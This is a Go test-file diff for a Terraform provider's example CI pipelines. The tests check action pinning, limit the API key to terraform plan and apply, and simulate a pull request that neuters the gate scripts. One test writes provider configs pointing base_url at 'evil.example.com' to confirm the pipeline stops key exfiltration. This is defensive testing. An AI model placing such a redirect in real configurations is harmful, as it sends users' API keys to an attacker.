@@ -6,6 +6,8 @@ import (
 	"os"
 	"path"
 	"path/filepath"
+	"regexp"
+	"runtime"
 	"slices"
 	"strings"
 	"sync"
@@ -20,55 +22,128 @@ import (
 	"github.com/tunnel-service/terraform-provider-tunnel/testserver"
 )
 
-// scripts returns the shell steps of an example pipeline, in order.
-func scripts(t *testing.T, name string) []string {
+// A step is one command of an example pipeline.
+type step struct {
+	Uses, Run string
+	Env       map[string]string
+}
+
+// steps returns the steps of an example pipeline, in order.
+func steps(t *testing.T, name string) []step {
 	t.Helper()
-	type steps struct {
-		Steps  []struct{ Run string }
-		Script []string
-	}
+	type script struct{ Script []string }
 	var pipeline struct {
-		Jobs    map[string]steps // GitHub Actions
+		Jobs map[string]struct { // GitHub Actions
+			Env   map[string]string
+			Steps []step
+		}
 		Default struct {
 			Before []string `yaml:"before_script"`
 		} // GitLab CI
-		Plan  steps
-		Apply steps
+		Plan, Apply script
 	}
 	if err := yaml.Unmarshal([]byte(read(t, path.Join("guides/gitops", name))), &pipeline); err != nil {
 		t.Fatal(err)
 	}
-	all := slices.Concat(pipeline.Default.Before, pipeline.Plan.Script, pipeline.Apply.Script)
+	var all []step
+	for _, run := range slices.Concat(pipeline.Default.Before, pipeline.Plan.Script, pipeline.Apply.Script) {
+		all = append(all, step{Run: run})
+	}
 	for _, job := range pipeline.Jobs {
-		for _, step := range job.Steps {
-			if step.Run != "" {
-				all = append(all, step.Run)
-			}
+		if len(job.Env) > 0 {
+			t.Errorf("%s gives all steps the variables %v", name, job.Env)
 		}
+		all = append(all, job.Steps...)
 	}
 	if len(all) < 2 {
-		t.Errorf("%s has %d shell steps", name, len(all))
+		t.Errorf("%s has %d steps", name, len(all))
 	}
 	return all
 }
 
-// pipeline runs the shell steps of an example pipeline until one fails.
+var pipelines = []string{"plan.yml", "apply.yml", "drift.yml", "gitlab-ci.yml"}
+
+// pipeline runs the shell steps of an example pipeline until one fails. The
+// target branch has the scripts of the guide.
 func pipeline(t *testing.T, tf *acctest.Terraform, name string, environment ...string) (out string, err error) {
 	t.Helper()
+	environment = append(environment, "GITHUB_BASE_REF=main", "CI_DEFAULT_BRANCH=main", "RUNNER_TEMP="+t.TempDir(), "TARGET="+t.TempDir())
 	tf.Write(t, "gate.sh", read(t, "guides/gitops/gate.sh"))
-	for _, script := range scripts(t, name) {
-		if out, err = tf.Shell(t, script, environment...); err != nil {
-			return script + "\n" + out, err
+	tf.Write(t, "check.sh", read(t, "guides/gitops/check.sh"))
+	if out, err := tf.Shell(t, `
+		git init -q -b main "$TARGET"
+		mv gate.sh check.sh "$TARGET"
+		git -C "$TARGET" add .
+		git -C "$TARGET" -c user.name=a -c user.email=a@b.test commit -qm scripts
+		echo 'exit 0' | tee gate.sh >check.sh # the pull request changes both
+		rm -rf .git
+		git init -q -b change
+		git remote add origin "$TARGET"`, environment...); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	for _, step := range steps(t, name) {
+		if out, err = tf.Shell(t, step.Run, environment...); err != nil {
+			return step.Run + "\n" + out, err
 		}
 	}
 	return out, nil
 }
 
+// pipelineTerraform prepares an example for pipelines: Terraform installs the
+// provider from a mirror, and the address and key of the test server are in the
+// environment.
+func pipelineTerraform(t *testing.T, w *acctest.Env, name string) *acctest.Terraform {
+	t.Helper()
+	tf, program := acctest.Installed(t, "")
+	mirror := t.TempDir()
+	folder := filepath.Join(mirror, "registry.terraform.io", "tunnel-service", "tunnel", "0.1.0", runtime.GOOS+"_"+runtime.GOARCH)
+	if err := os.MkdirAll(folder, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Link(program, filepath.Join(folder, "terraform-provider-tunnel_v0.1.0"+filepath.Ext(program))); err != nil {
+		t.Fatal(err)
+	}
+	tf.Write(t, "terraformrc", fmt.Sprintf("provider_installation {\n  filesystem_mirror { path = %q }\n}\n", filepath.ToSlash(mirror)))
+	example := read(t, name)
+	writeFiles(t, tf, example)
+	if strings.Contains(example, "required_providers") {
+		tf.Write(t, "main.tf", example)
+	} else {
+		tf.Write(t, "example.tf", example)
+	}
+	tf.Setenv(t, map[string]string{"TUNNEL_BASE_URL": w.URL, "TUNNEL_API_KEY": w.AdminKey})
+	return tf
+}
+
+func TestGitOps_onlyTerraformGetsTheKey(t *testing.T) {
+	t.Parallel()
+	pinned, holders := regexp.MustCompile(`^[\w/-]+@[0-9a-f]{40}$`), 0
+	for _, name := range pipelines {
+		for _, step := range steps(t, name) {
+			if step.Uses != "" && !pinned.MatchString(step.Uses) {
+				t.Errorf("%s: %s is not pinned to a commit", name, step.Uses)
+			}
+			if step.Env["TUNNEL_API_KEY"] == "" {
+				continue
+			}
+			holders++
+			for command := range strings.Lines(step.Run) {
+				if !strings.HasPrefix(command, "terraform plan ") && !strings.HasPrefix(command, "terraform apply ") {
+					t.Errorf("%s: %q gets the API key", name, command)
+				}
+			}
+		}
+	}
+	if holders != 3 {
+		t.Errorf("%d steps get the API key", holders)
+	}
+}
+
 func TestAccGitOps_pipelines(t *testing.T) {
 	t.Parallel()
 	w, _ := startServer(t)
-	tf := terraform(t, w, read(t, "guides/getting-started/main.tf"))
-	for _, name := range []string{"plan.yml", "apply.yml", "drift.yml", "gitlab-ci.yml"} {
+	tf := pipelineTerraform(t, w, "guides/getting-started/main.tf")
+	for _, name := range pipelines {
 		if out, err := pipeline(t, tf, name); err != nil {
 			t.Errorf("%s: %v\n%s", name, err, acctest.Summary(out))
 		}
@@ -81,10 +156,34 @@ func TestAccGitOps_pipelines(t *testing.T) {
 	}
 }
 
+// A pull request must not send the API key to a host of its choice.
+func TestAccGitOps_checkStopsAnotherBaseURL(t *testing.T) {
+	t.Parallel()
+	w, _ := startServer(t)
+	tf := pipelineTerraform(t, w, "guides/getting-started/main.tf")
+	for file, content := range map[string]string{
+		"other.tf":      "provider \"tunnel\" {\n  alias    = \"other\"\n  base_url = \"https://evil.example.com\"\n}\n",
+		"other.tf.json": `{"provider": {"tunnel": [{"alias": "other", "base_url": "https://evil.example.com"}]}}`,
+	} {
+		tf.Write(t, file, content)
+		for _, name := range []string{"plan.yml", "gitlab-ci.yml"} {
+			if out, err := pipeline(t, tf, name); err == nil || !strings.Contains(out, "./"+file) || !strings.Contains(out, "Set TUNNEL_BASE_URL in the pipeline instead") {
+				t.Errorf("%s: expected a stop because of %s, got %v:\n%s", name, file, err, acctest.Summary(out))
+			}
+		}
+		if err := os.Remove(filepath.Join(tf.Dir, file)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if total := w.Stats().Total; total != 0 {
+		t.Errorf("%d requests were sent", total)
+	}
+}
+
 func TestAccGitOps_gateStopsCertificateReplacements(t *testing.T) {
 	t.Parallel()
 	w, _ := startServer(t)
-	tf := terraform(t, w, read(t, "resources/tunnel_tls_certificate/resource.tf"))
+	tf := pipelineTerraform(t, w, "resources/tunnel_tls_certificate/resource.tf")
 	for _, name := range []string{"plan.yml", "gitlab-ci.yml"} {
 		if out, err := pipeline(t, tf, name); err != nil { // creating a certificate needs no approval
 			t.Fatalf("%s: %v\n%s", name, err, acctest.Summary(out))
